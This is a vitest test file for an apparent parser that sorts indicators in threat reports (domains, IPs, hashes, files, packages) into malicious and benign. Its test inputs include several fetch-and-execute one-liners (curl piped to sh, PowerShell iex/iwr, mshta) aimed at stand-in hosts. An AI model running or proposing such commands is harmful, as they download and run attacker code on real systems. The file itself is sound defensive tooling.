import { describe, expect, it } from 'vitest';
import type { BlockKind } from '../../domain/article.ts';
import { articleOf } from '../article-of.ts';
import { understand } from '../understand.ts';

type Body = (string | { kind: BlockKind; text: string })[];

const heading = (text: string) => ({ kind: 'heading' as const, text });
const item = (text: string) => ({ kind: 'item' as const, text });
const code = (text: string) => ({ kind: 'code' as const, text });
const table = (text: string) => ({ kind: 'table' as const, text });

/** The values of an article's observables by their role. */
function rolesOf(body: Body) {
  const roles: Record<string, string[]> = {};
  for (const { role, value } of understand(articleOf({ body })).observables)
    roles[role ?? ''] = [...(roles[role ?? ''] ?? []), value];
  return roles;
}

describe('plain domains of an article that defangs nothing', () => {
  it.each<[string, Body]>([
    ['a list', [heading('Indicators of compromise'), item('lumgate.top'), item('harborpanel.com')]],
    [
      'a list under a heading of its kind',
      [heading('IOCs'), heading('Domains'), code('lumgate.top\nharborpanel.com')],
    ],
    ['a line that ends in a colon', ['C2 domains:', 'lumgate.top\nharborpanel.com']],
    ['a bold paragraph', ['C2 domains', 'lumgate.top\nharborpanel.com']],
    ['another heading', [heading('Malicious domains'), 'lumgate.top\nharborpanel.com']],
    ['the following', ['The following domains are malicious', item('lumgate.top'), item('harborpanel.com')]],
    ['a table', [heading('IOCs'), table('Domain | Seen\nlumgate.top | May\nharborpanel.com | June')]],
    ['cells', [table('Domain | Use\nlumgate.top | Phishing\nharborpanel.com | C2 server')]],
    ['labels', ['C2: lumgate.top', 'IOCs: harborpanel.com']],
    ['a list in a line', ['IOCs: lumgate.top and harborpanel.com']],
    [
      'the words before',
      ['The malicious domain lumgate.top was new. It asks its C2 server harborpanel.com for orders.'],
    ],
    [
      'what is to be done',
      ['Traffic to lumgate.top should be blocked.', 'Block all traffic to harborpanel.com at once.'],
    ],
    [
      'the words after',
      ['On Monday lumgate.top served malware to visitors, and harborpanel.com acted as the C2 server.'],
    ],
  ])('are malicious by %s', (_, body) => {
    expect(rolesOf(body)).toEqual({ malicious: ['lumgate.top', 'harborpanel.com'] });
  });

  it.each<[string, Body]>([
    ['named in a sentence', ['Members of lumgate.top got their money back, the firm said.']],
    [
      'named after the list',
      [
        heading('Indicators of compromise'),
        'The team of lumgate.top thanks all who helped with this report.',
      ],
    ],
    ['under another heading', [heading('IOCs'), heading('About the author'), item('lumgate.top')]],
    ['called harmless', [heading('Legitimate domains that phishing sites copied'), item('lumgate.top')]],
    ['denied', ['There is no malicious domain lumgate.top in this list.']],
  ])('are benign where they are %s', (_, body) => {
    expect(rolesOf(body)).toEqual({ benign: ['lumgate.top'] });
  });

  it.each([
    'The domain lumgate-login.com spoofed lumgate.com.',
    'The site lumgate-login.com, which imitates the bank’s own site lumgate.com, is new.',
    'The phishing page lumgate-login.com looks like the real site lumgate.com.',
    'They registered the fake domain lumgate-login.com instead of lumgate.com.',
    'lumgate-login.com poses as lumgate.com and asks for a card.',
    'On lumgate-login[.]com, a clone of the legitimate site lumgate.com, it asks for a card.',
  ])('tell the copy from what it copies: %s', (text) => {
    expect(rolesOf([text])).toEqual({ malicious: ['lumgate-login.com'], benign: ['lumgate.com'] });
  });

  it('holds a phishing site for malicious though what it imitates is called legitimate', () => {
    const text = 'The phishing site login-lumgate.net imitates the bank’s legitimate login page.';
    expect(rolesOf([text])).toEqual({ malicious: ['login-lumgate.net'] });
  });
});

const sha256 = '5e884898da28047151d0e56f8dc6292773603d0d6aabbdd62a11ef721d1542d8';
const sha1 = '5baa61e4c9b93f3f0682250b6cf8331b7ee68fd8';

/** What is said of the first observable. */
function first(...body: Body) {
  const { role, value, why } = understand(articleOf({ body })).observables[0]!;
  return { role, value, why };
}

describe('files, addresses and mailboxes of an article that defangs nothing', () => {
  it.each([
    ['Admins should check access.log for odd requests.', 'access.log', 'a place where readers are to look'],
    ['Review the settings in quayserver.conf.', 'quayserver.conf', 'a place where readers are to look'],
    ['The fix ships in quayweb-8.0.2.zip today.', 'quayweb-8.0.2.zip', 'a release that readers are to have'],
    [
      'It updates the bundled lib-core-2.17.1.jar.',
      'lib-core-2.17.1.jar',
      'a release that readers are to have',
    ],
    ['7z.exe | clean', '7z.exe', 'the text calls it harmless'],
    ['plink.exe | legitimate', 'plink.exe', 'the text calls it harmless'],
    ['The genuine setup.exe is signed.', 'setup.exe', 'the text calls it harmless'],
    [
      'It is side-loaded through wine.exe, a legitimate executable.',
      'wine.exe',
      'the text calls it harmless',
    ],
    [`${sha256} | clean, abused`, sha256, 'the text calls it harmless'],
    [`The clean installer has SHA-256 ${sha256}.`, sha256, 'the text calls it clean or fixed'],
    [`The fixed release has the checksum ${sha256}.`, sha256, 'the text calls it clean or fixed'],
    [`The commit ${sha1} mends it.`, sha1, 'a commit of source code'],
    ['See README.md for more.', 'README.md', 'a file that many projects hold'],
    ['Some packages carry a `tea.yaml` file.', 'tea.yaml', 'a file that many projects hold'],
    ['It rewrites package-lock.json each time.', 'package-lock.json', 'a file that many projects hold'],
    ['The time server 129.6.15.28 was slow.', '129.6.15.28', 'it is named in running text'],
    [
      'Customers should allow our scanner at 64.39.96.10 through.',
      '64.39.96.10',
      'it is named in running text',
    ],
    ['The website of the bank at 93.184.216.34 was down.', '93.184.216.34', 'it is named in running text'],
    [
      'Keys are at https://www.nomoreransom.org/en/index.html for all.',
      'https://www.nomoreransom.org/en/index.html',
      'a place that texts refer to',
    ],
  ])('%s: %s is benign, since %s', (text, value, why) => {
    expect(first(text)).toEqual({ role: 'benign', value, why });
  });

  it.each([
    ['It used CVE-2025-1, a flaw in the image library `libquay.quram.so`.', 'libquay.quram.so'],
    ['An out-of-bounds write in Quay’s driver quay64.sys lets users become root.', 'quay64.sys'],
    [
      'Attackers exploit a path traversal vulnerability in the component quayupload.php today.',
      'quayupload.php',
    ],
    ['The driver quay64.sys is vulnerable, and attackers bring it along.', 'quay64.sys'],
    ['The file quayauth.cgi contains a stack overflow that bots exploit.', 'quayauth.cgi'],
  ])('%s: the flaw is in %s', (text, value) => {
    const why = 'a file of what is affected: the flaw is in it';
    expect(first(text)).toEqual({ role: 'benign', value, why });
  });

  it.each([
    ['Check for shell.jsp in the folder.', 'shell.jsp'],
    ['They exploit a flaw in QuayWeb to drop quay.jsp there.', 'quay.jsp'],
    ['After the flaw in QuayWeb was used, svchosts.dll ran.', 'svchosts.dll'],
    ['The flaw in QuayWeb and quaydrop.exe were seen together.', 'quaydrop.exe'],
    ['The loader quayload.dll has a bug that stops it.', 'quayload.dll'],
    ['The loader updates itself by setup-2.1.0.zip now.', 'setup-2.1.0.zip'],
    ['dropper.exe | not clean', 'dropper.exe'],
    [`The malicious commit ${sha1} reads keys.`, sha1],
    [`The trojanized copy of the clean installer has SHA-256 ${sha256}.`, sha256],
    ['The attackers logged in from 45.77.12.9 at night.', '45.77.12.9'],
    ['Die Angreifer kamen von der Adresse 45.77.12.9 aus in das Netz.', '45.77.12.9'],
    ['45.77.12.9', '45.77.12.9'],
    [
      'Your files are encrypted. To get your files back, contact us at quay@onionmail.org.',
      'quay@onionmail.org',
    ],
  ])('%s: %s is malicious', (text, value) => {
    expect(first(text)).toMatchObject({ role: 'malicious', value });
  });

  it('takes what a place of everyday use was abused for from a list, and what the list refers to not', () => {
    const payload = 'https://github.com/harborman/tools/raw/main/q.bin';
    const report = 'https://github.com/harbour-labs/reports';
    expect(rolesOf([table(`URL | ${payload} | Payload`)])).toEqual({ malicious: [payload] });
    expect(rolesOf([heading('IOCs'), item(payload), heading('References'), item(report)])).toEqual({
      malicious: [payload],
      benign: [report],
    });
  });

  it('leaves those who help the victims out of the seized sites', () => {
    const text = 'Police seized lumgate[.]top and harborpanel[.]com; keys are at nomoreransom.org.';
    expect(rolesOf([text])).toMatchObject({ benign: ['nomoreransom.org'] });
  });
});

describe('packages', () => {
  it.each<[string, Body, Record<string, string[]>]>([
    [
      'a heading',
      [heading('Malicious npm packages'), item('quay-fast-pay')],
      { malicious: ['pkg:npm/quay-fast-pay'] },
    ],
    [
      'the following',
      ['The following npm packages are malicious', item('pkg:npm/lumgate-dep@2.0.1')],
      { malicious: ['pkg:npm/lumgate-dep@2.0.1'] },
    ],
    [
      'the sentence',
      ['The npm packages quay-tempalte and ansi-quay steal keys.'],
      { malicious: ['pkg:npm/quay-tempalte', 'pkg:npm/ansi-quay'] },
    ],
    [
      'what is imitated',
      ['The malicious npm package “quay-axois” imitates the npm package “quay-axios”.'],
      { malicious: ['pkg:npm/quay-axois'], benign: ['pkg:npm/quay-axios'] },
    ],
    [
      'the sentence, though it imitates another',
      [
        'The attackers published pkg:pypi/requezts@2.31.4, a malicious package that impersonates a popular library.',
      ],
      { malicious: ['pkg:pypi/requezts@2.31.4'] },
    ],
    ['nothing', ['The npm package quay-fast-pay has a new release.'], { benign: ['pkg:npm/quay-fast-pay'] }],
    [
      'another heading',
      [heading('Popular npm packages'), item('quay-fast-pay')],
      { benign: ['pkg:npm/quay-fast-pay'] },
    ],
  ])('are told by %s', (_, body, roles) => {
    expect(rolesOf(body)).toEqual(roles);
  });
});

describe('what works for defenders, or for everybody', () => {
  it.each<[string, Body, Record<string, string[]>]>([
    [
      'checks of the connection, also defanged',
      [heading('Indicators of compromise'), item('www.msftconnecttest[.]com'), item('elmwick[.]top')],
      { benign: ['www.msftconnecttest.com'], malicious: ['elmwick.top'] },
    ],
    [
      'a sinkhole, and another',
      [
        'The sinkhole at 45.77.12.9 saw 3,000 victims; the domain now resolves to 45.77.12.10, a sinkhole of researchers.',
      ],
      { benign: ['45.77.12.9', '45.77.12.10'] },
    ],
    [
      'a sinkhole in a table',
      [table('45.77.12.9 | IPv4 | sinkhole\n45.77.12.10 | IPv4 | C2')],
      { benign: ['45.77.12.9'], malicious: ['45.77.12.10'] },
    ],
    [
      'what was sinkholed, and what is to be',
      ['We sinkholed elmwick-a.com and elmwick-b.org. Administrators should sinkhole elmwick-c.com.'],
      { malicious: ['elmwick-a.com', 'elmwick-b.org', 'elmwick-c.com'] },
    ],
    [
      'registries of packages',
      [
        'Malicious crates on crates.io and packagist.org steal keys. See https://crates.io/crates/quay-log and www.elmwick.org/guide.',
      ],
      {
        benign: ['crates.io', 'packagist.org', 'https://crates.io/crates/quay-log', 'www.elmwick.org/guide'],
      },
    ],
    [
      'a command under a heading',
      [heading('Evil domains'), item('curl -s http://elmwick-a.com/x.sh | sh'), item('elmwick-b.net')],
      { malicious: ['http://elmwick-a.com/x.sh', 'elmwick-b.net'] },
    ],
    [
      'a tool that is called legitimate',
      ['They used the legitimate remote access tool QuayDesk (QuayDesk.exe) and QuayView.exe is legitimate.'],
      { benign: ['QuayDesk.exe', 'QuayView.exe'] },
    ],
    [
      'what passes itself off as legitimate',
      [
        'It is a trojanised version of the legitimate installer QuayDesk.exe and poses as the legitimate QuayView.exe too.',
      ],
      { malicious: ['QuayDesk.exe', 'QuayView.exe'] },
    ],
    [
      'a row and the next',
      [table('QuayDesk.exe | File | legitimate RMM\nrun.exe | File | loader')],
      { benign: ['QuayDesk.exe'], malicious: ['run.exe'] },
    ],
    [
      'files of a project',
      ['The project has config.py, main.rs, script.sh and quayparse.go in its repository.'],
      { benign: ['config.py', 'main.rs', 'script.sh', 'quayparse.go'] },
    ],
    [
      'the same files of an attack',
      ['The malware dropped config.py and then ran install.pl from a folder.'],
      { malicious: ['config.py', 'install.pl'] },
    ],
    [
      'a command that runs what it fetches',
      [
        "The one-liner was `iex (iwr 'http://elmwick-a.xyz/a.ps1')`, and others paste mshta https://elmwick-b.site/c.html",
      ],
      { malicious: ['http://elmwick-a.xyz/a.ps1', 'https://elmwick-b.site/c.html'] },
    ],
    [
      'what defenders are to look for',
      ['Look for connections to 45.77.12.9 and alert on any traffic to elmwick-a.com in the logs.'],
      { malicious: ['45.77.12.9', 'elmwick-a.com'] },
    ],
    [
      'what was registered, and to which end',
      [
        'Attackers registered rnicrosoft-elm.com to imitate a maker, and elm-bank.co to look like elmbank.com.',
      ],
      { malicious: ['rnicrosoft-elm.com', 'elm-bank.co'], benign: ['elmbank.com'] },
    ],
    [
      'rows that commas part',
      [
        heading('Network indicators'),
        {
          kind: 'code',
          text: 'type,value,seen\ndomain,elmwick-a.net,2025-11-02\nurl,http://elmwick-a.net/b.bin,2025-11-02,payload',
        },
      ],
      { malicious: ['elmwick-a.net', 'http://elmwick-a.net/b.bin'] },
    ],
  ])('%s', (_, body, roles) => {
    expect(rolesOf(body)).toEqual(roles);
  });
});

it('hears a row that calls its value an example, and who sinkholes in the present', () => {
  const rows = table(
    'email-src | pay@lumgate.top | example |\nip-dst | 45.61.130.7 | C2, example of many |\ndomain | harborpanel[.]com | C2 |',
  );
  const sinkholes = 'The trust took over the names and now sinkholes them at 45.61.130.9.';
  expect(rolesOf([heading('IOCs'), rows, sinkholes])).toEqual({
    benign: ['pay@lumgate.top', '45.61.130.9'],
    malicious: ['45.61.130.7', 'harborpanel.com'],
  });
});

describe('what one line of a list says', () => {
  const hash = '4b'.repeat(32);
  const roleOfTheHash = (body: Body) =>
    understand(articleOf({ body })).observables.find(({ value }) => value === hash)?.role;

  it.each<[string, Body]>([
    ['of an address above', [code(`IP: 9.9.9[.]9 - a resolver, benign\nSHA256: ${hash}`)]],
    ['of a domain below', [code(`SHA256: ${hash}\nquay[.]example-cdn[.]net - legitimate, abused`)]],
    [
      'where the hash has a remark of its own',
      [code(`setup.exe - benign installer that it comes with\n${hash} - QuillDrop DLL`)],
    ],
    ['of another row', [table(`9.9.9.9 | benign\n${hash} | QuillDrop`)]],
  ])('is not said of the next: %s', (_, body) => {
    expect(roleOfTheHash([heading('Indicators of compromise'), ...body])).toBe('malicious');
  });

  it.each<[string, Body]>([
    ['its own line', [code(`${hash} - benign installer`)]],
    ['a record', [code(`SHA256: ${hash} (setup.exe)\nSize: 12 bytes\nNote: a legitimate installer`)]],
    [
      'a record with where it came from',
      [code(`SHA256: ${hash}\nFrom: hxxp://quay[.]example-cdn[.]net/a.zip\nNote: a legitimate installer`)],
    ],
  ])('is said of the hash of %s', (_, body) => {
    expect(roleOfTheHash(body)).toBe('benign');
  });
});

describe('a file that is called like one of the system’s', () => {
  const hash = '4b'.repeat(32);
  const rolesOfFiles = (body: Body) =>
    understand(articleOf({ body }))
      .observables.filter(({ type }) => type.startsWith('file'))
      .map(({ role }) => role);

  it.each([
    'The viewer side-loads version.dll from its folder.',
    'It puts a malicious DLL called version.dll beside the viewer.',
    'A malicious library, version.dll, is put beside the viewer.',
    'Beside the viewer lies version.dll, the actual loader, which waits for a day.',
    'Then version.dll is side-loaded by the viewer.',
    'The implant is disguised as svchost.exe in that folder.',
    'In version.dll (the QuillDrop loader) lies a key.',
  ])('is a sign of the attack: %s', (text) => {
    expect(rolesOfFiles([text])).toEqual(['malicious']);
  });

  it('is one in the row of a hash, and then wherever it is named', () => {
    const row = item(`SHA256: ${hash} - QuillDrop DLL (version.dll)`);
    expect(rolesOfFiles(['It needs version.dll.', heading('Indicators of compromise'), row])).toEqual([
      'malicious',
      'malicious',
    ]);
  });

  it.each([
    'The loader runs rundll32.exe and waits.',
    'It injects the payload into explorer.exe, the browser and others.',
    'The payload is side-loaded by explorer.exe at noon.',
    'The loader called rundll32.exe with an odd name.',
    'It opens explorer.exe to load malware.',
    'The legitimate svchost.exe is not malicious.',
    `${hash} | rundll32.exe, legitimate`,
    `Command of the loader: rundll32.exe a,b ${hash}`,
    'It patches amsi.dll in memory, and version.dll was missing.',
  ])('is none: %s', (text) => {
    expect(new Set(rolesOfFiles([text]))).toEqual(new Set(['benign']));
  });
});
